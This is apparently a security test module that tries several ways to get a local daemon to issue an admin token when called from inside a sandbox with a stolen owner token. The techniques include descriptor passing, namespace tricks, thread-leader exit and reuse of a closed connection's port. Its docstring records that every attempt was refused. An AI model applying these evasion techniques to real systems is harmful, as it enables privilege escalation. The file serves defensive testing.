"""Uses the owner's admin token from inside, over TCP, hidden from who looks for the connection's
holder.

Tries: a plain request; one whose process ends; a thread with descriptors of its own; the
descriptor in flight in a message; a half-closed connection; a process without its first thread;
new namespaces; a connection that was innocent before; and the very address of a connection of the
owner just closed.
Would prove: the daemon takes a caller inside for one outside, and a token found in a file is worth
admin.
Saw: refused each time; no token was made.
"""
import array
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time

CONTROL = "outside"
WAYS = ["plain", "gone", "half_closed", "thread", "in_flight", "nested", "no_leader", "innocent"]
CLONE_FILES, CLONE_NEWUSER, CLONE_NEWPID = 0x400, 0x10000000, 0x20000000


def attack(world):
    session = world.attacker()
    host, port = world.place()
    for way in WAYS:
        world.inside(session, __file__, way, host, port, world.token)
    for turn in range(3):
        same_address(world, session, host, port, turn)
    time.sleep(0.2)
    names = [token["name"] for token in world.api.get("/api/tokens")[1]["tokens"]]
    return [f"a token was made by: {name}" for name in names if not name.startswith("owner")]


def same_address(world, session, host, port, turn):
    """The owner's connection is seen to be outside; then the same four numbers come from inside."""
    line = socket.create_connection((host, port))
    line.sendall(request(host, port, world.token, f"owner{turn}"))
    line.recv(1000)
    taken = threading.Thread(target=world.inside, args=(
        session, __file__, "port", host, port, world.token, line.getsockname()[1]))
    taken.start()
    time.sleep(0.15)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    line.close()
    taken.join()


def request(host, port, token, name):
    body = json.dumps({"name": name, "scopes": ["admin"]})
    return (f"POST /api/tokens HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {token}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}").encode()


class Inside:
    def __init__(self, host, port, token, *more):
        self.host, self.port, self.token, self.more = host, int(port), token, more
        self.libc = ctypes.CDLL(None)

    def line(self, own_port=0):
        line = socket.socket()
        line.settimeout(3)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if own_port:
            line.bind((self.host, own_port))
        line.connect((self.host, self.port))
        return line

    def text(self, name):
        return request(self.host, self.port, self.token, name)

    def plain(self, name="plain"):
        line = self.line()
        line.sendall(self.text(name))
        print(line.recv(200)[:40], flush=True)

    def gone(self):
        self.line().sendall(self.text("gone"))
        os._exit(0)

    def half_closed(self):
        line = self.line()
        line.sendall(self.text("half_closed"))
        line.shutdown(socket.SHUT_WR)
        print(line.recv(200)[:40])

    def thread(self):
        def run():
            self.libc.unshare(CLONE_FILES)
            self.plain("thread")
        other = threading.Thread(target=run)
        other.start()
        other.join()

    def in_flight(self):
        near, _far = socket.socketpair()
        line, text = self.line(), self.text("in_flight")
        line.sendall(text[:-5])
        near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                               array.array("i", [line.fileno()]))])
        line.sendall(text[-5:])
        line.close()
        time.sleep(0.5)

    def nested(self):
        if os.fork() == 0:
            self.libc.unshare(CLONE_NEWUSER | CLONE_NEWPID)
            if os.fork() == 0:
                self.plain("nested")
                os._exit(0)
            os.wait()
            os._exit(0)
        os.wait()

    def no_leader(self):
        def run():
            time.sleep(0.1)
            self.plain("no_leader")
        threading.Thread(target=run).start()
        self.libc.syscall(60, 0)  # the first thread ends, the process does not

    def innocent(self):
        line = self.line()
        line.sendall(f"GET /healthz HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n\r\n".encode())
        line.recv(4000)
        line.sendall(self.text("innocent"))
        print(line.recv(200)[:40])

    def port_(self):
        for _ in range(300):
            try:
                line = self.line(int(self.more[0]))
                line.sendall(self.text("port"))
                print(line.recv(200)[:40])
                return
            except OSError:
                time.sleep(0.005)


if __name__ == "__main__":
    way = Inside(*sys.argv[2:])
    (way.port_ if sys.argv[1] == "port" else getattr(way, sys.argv[1]))()
